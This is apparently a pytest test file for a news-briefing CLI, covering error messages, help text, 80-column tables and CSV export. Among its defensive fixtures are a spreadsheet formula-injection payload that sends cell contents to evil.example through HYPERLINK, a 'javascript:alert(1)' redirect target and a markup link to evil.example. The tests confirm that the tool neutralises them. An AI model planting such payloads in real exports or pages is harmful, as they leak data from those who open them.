"""Issue 9, items 11, 18, 20, 21: the CLI as a user meets it -- no tracebacks, server text printed
literally, help that reads well, tables for 80 columns, CSV safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json

import pytest

from .test_cli import LOOPBACK_ENV, assert_plain_error, run


def db_env(tmp_path) -> dict[str, str]:
    return {"DATABASE_URL": f"sqlite+aiosqlite:///{tmp_path / 'cli.sqlite3'}", **LOOPBACK_ENV}


# ------------------------------------------------------------------------------------------------ item 18
def test_bad_hosts_and_redirects_are_plain_errors(server):
    assert_plain_error(run("brief", "https://xn--/"), "not a valid URL")
    for target in ("javascript:alert(1)", "data:text/html,hi", "mailto:a@example.org"):
        url = server.add(f"/to-{target.split(':')[0]}", status=302, headers={"Location": target})
        assert_plain_error(run("brief", url, env=LOOPBACK_ENV), "cannot be fetched")


def test_unreachable_database_on_save_is_a_plain_error():
    env = {"DATABASE_URL": "postgresql+asyncpg://nobody@127.0.0.1:1/none"}
    proc = run("brief", "sample", "--save", env=env)
    err = proc.stderr.decode()
    assert proc.returncode == 1 and "Traceback" not in err
    assert [line for line in err.splitlines() if line.strip()][-1].startswith("error: database problem")


@pytest.mark.parametrize("ctype", ["application/x[/bold]", "application/[link=https://evil.example]x[/link]"])
def test_server_text_is_printed_literally(server, ctype):
    url = server.add("/odd", b"\x00\x01binary", headers={"Content-Type": ctype})
    assert_plain_error(run("brief", url, env=LOOPBACK_ENV), ctype.lower())


# ------------------------------------------------------------------------------------------------ item 13
def test_brief_save_with_an_over_long_title_on_postgresql(pg_url, tmp_path):
    from .conftest import html_page
    from .test_store_ingest import STORIES

    title, paras = STORIES["andoya-isar"]
    page = tmp_path / "long.html"
    page.write_text(html_page(title + " " + "and more " * 400, paras), encoding="utf-8")
    proc = run("brief", str(page), "--save", "--json", env={"DATABASE_URL": pg_url})
    assert proc.returncode == 0 and "Traceback" not in proc.stderr.decode(), proc.stderr.decode()
    assert "saved in the archive as article 1" in proc.stderr.decode()
    hits = json.loads(run("search", "Spectrum", "--json", env={"DATABASE_URL": pg_url}).stdout)
    assert len(hits[0]["title"]) <= 1000 and hits[0]["title"].startswith(title)


# ------------------------------------------------------------------------------------------------ item 21
def test_a_local_file_never_claims_the_pages_own_url(tmp_path):
    from .conftest import html_page
    from .test_store_ingest import STORIES

    title, paras = STORIES["esrange"]
    claimed = "https://news.example.com/2025/esrange-story"
    page = html_page(title, paras).replace(
        "<head>", f"<head><meta property='og:url' content='{claimed}'><link rel='canonical' href='{claimed}'>")
    path = tmp_path / "saved-page.html"
    path.write_text(page, encoding="utf-8")
    env = {"DATABASE_URL": f"sqlite+aiosqlite:///{tmp_path / 'a.sqlite3'}"}
    for source, stdin in ((str(path), None), ("-", page.encode())):
        proc = run("brief", source, "--json", "--save", env=env, stdin=stdin)
        assert proc.returncode == 0, proc.stderr.decode()
        data = json.loads(proc.stdout)
        assert data["url"] is None and data["source"] == ("stdin" if source == "-" else str(path))

    import asyncio

    from briefings.store.repo import Store

    async def stored():
        store = await Store.open(env["DATABASE_URL"])
        try:
            return await store.brief_for_url(claimed), await store.recent_briefs(5)
        finally:
            await store.close()

    by_claimed_url, recent = asyncio.run(stored())
    assert by_claimed_url is None  # the bot would never serve this text for the claimed URL
    assert recent and all("example.com" not in r.article.url and "example.com" not in r.article.canonical_url
                          for r in recent)


# ------------------------------------------------------------------------------------------------ item 11
def _commands(group, path=()):
    for name, cmd in group.commands.items():
        if hasattr(cmd, "commands"):
            yield from _commands(cmd, (*path, name))
        else:
            yield (*path, name), cmd


def test_help_reads_well_and_every_option_is_explained():
    from typer.main import get_command
    from typer.testing import CliRunner

    from bot.cli import app

    root = get_command(app)
    commands = list(_commands(root))
    assert len(commands) >= 12
    runner = CliRunner()
    for path, cmd in commands:
        for param in cmd.params:
            # typer vendors its own click, so options are told apart by their declared kind.
            if param.param_type_name == "option" and param.name != "help":
                assert (param.help or "").strip(), f"{' '.join(path)} {param.opts} has no help text"
        out = runner.invoke(app, [*path, "--help"], terminal_width=80, env={"COLUMNS": "80"}).output
        assert "<bool>" not in out, out
        usage = next(line for line in out.splitlines() if "Usage:" in line)
        assert "{" not in usage and "}" not in usage, usage
    usage = next(line for line in runner.invoke(app, ["brief", "--help"]).output.splitlines() if "Usage:" in line)
    assert "SOURCE" in usage
    version = run("--version")
    from briefings import __version__

    assert version.returncode == 0 and version.stdout.decode().strip() == f"launchbrief {__version__}"


def _archive(tmp_path, titles: list[str]) -> dict[str, str]:
    """A SQLite archive holding one saved brief per title (the Andøya story's text)."""
    import asyncio

    from briefings.engine import analyse
    from briefings.models import Article
    from briefings.store.repo import Store, utcnow

    from .test_store_ingest import STORIES

    env = {"DATABASE_URL": f"sqlite+aiosqlite:///{tmp_path / 'arch.sqlite3'}", **LOOPBACK_ENV}

    async def fill():
        store = await Store.open(env["DATABASE_URL"])
        try:
            for i, title in enumerate(titles):
                paras = STORIES["andoya-isar"][1] + [f"Story number {i} adds its own paragraph about range safety."]
                art = Article(url=f"https://news.example.org/{i}", source="x", title=title, site_name="Wire",
                              text=" ".join(paras))
                await store.save(art, analyse(art))
            feed = await store.add_feed("https://news.example.org/" + "very-long-feed-path/" * 10 + "rss.xml",
                                        "A feed whose title goes on " * 8)
            await store.feed_succeeded(feed.id, etag=None, last_modified=None, next_poll=utcnow())
        finally:
            await store.close()

    asyncio.run(fill())
    return env


def test_tables_fit_80_columns_and_names_mean_one_thing(tmp_path):
    long_title = "Isar Aerospace readies Spectrum at Andøya for a first orbital attempt " * 4
    env = {**_archive(tmp_path, [long_title]), "COLUMNS": "80"}
    for args in (("partners",), ("feeds", "list"), ("latest",), ("search", "Spectrum"), ("brief", "sample")):
        proc = run(*args, env=env)
        out = proc.stdout.decode()
        assert proc.returncode == 0 and out.strip(), (args, proc.stderr.decode())
        widths = [len(line) for line in out.splitlines()]
        assert max(widths) <= 80, (args, max(widths))
        if args[0] in ("feeds", "latest", "search"):
            assert "…" in out, args  # the long title is cut, not wrapped
            assert "attempt Isar" not in out and "goes on A feed" not in out, args  # only the title's start
    feeds_out = run("feeds", "list", env=env).stdout.decode()
    assert "UTC" in feeds_out  # timestamps carry their zone
    (feed,) = json.loads(run("feeds", "list", "--json", env=env).stdout)
    assert feed["last_success"].endswith("+00:00") and feed["next_poll"].endswith("+00:00")
    # "mentions" means times named in one article (brief --json); partners counts articles
    partners = json.loads(run("partners", "--json", env=env).stdout)["partners"]
    assert partners and all("articles" in p and "mentions" not in p for p in partners)
    brief = json.loads(run("brief", "sample", "--json", env=env).stdout)
    assert all("mentions" in p for p in brief["partners"])
    # "source" is where a brief came from (URL, file, stdin); the site's name is "site_name" everywhere
    for args in (("latest", "--json"), ("search", "Spectrum", "--json")):
        rows = json.loads(run(*args, env=env).stdout)
        assert rows and all(r["site_name"] == "Wire" and "source" not in r for r in rows), args


def test_empty_archive_points_to_feeds_add_and_csv_keeps_its_header(tmp_path):
    env = {"DATABASE_URL": f"sqlite+aiosqlite:///{tmp_path / 'empty.sqlite3'}"}
    out = run("latest", env=env)
    assert out.returncode == 0 and "launchbrief feeds add" in out.stdout.decode()
    header = run("partners", "--csv", env=env).stdout.decode().splitlines()
    assert header == ["partner,kind,country,tier,articles,first_seen,last_seen,latest_title,latest_url"]


# ------------------------------------------------------------------------------------------------ item 20
def test_partners_csv_neutralises_formulas(tmp_path):
    hostile = ['=HYPERLINK("https://evil.example/?x="&A1,"Norway")', "+47 launch", "-1 for Norway", "@SUM(A1)",
               "\tTabbed title"]
    env = _archive(tmp_path, hostile)
    proc = run("partners", "--csv", env=env)
    rows = list(csv.DictReader(io.StringIO(proc.stdout.decode())))
    assert rows
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r", row
    titles = {r["latest_title"] for r in rows}
    assert titles & {"'" + t for t in hostile}  # kept, readable, inert
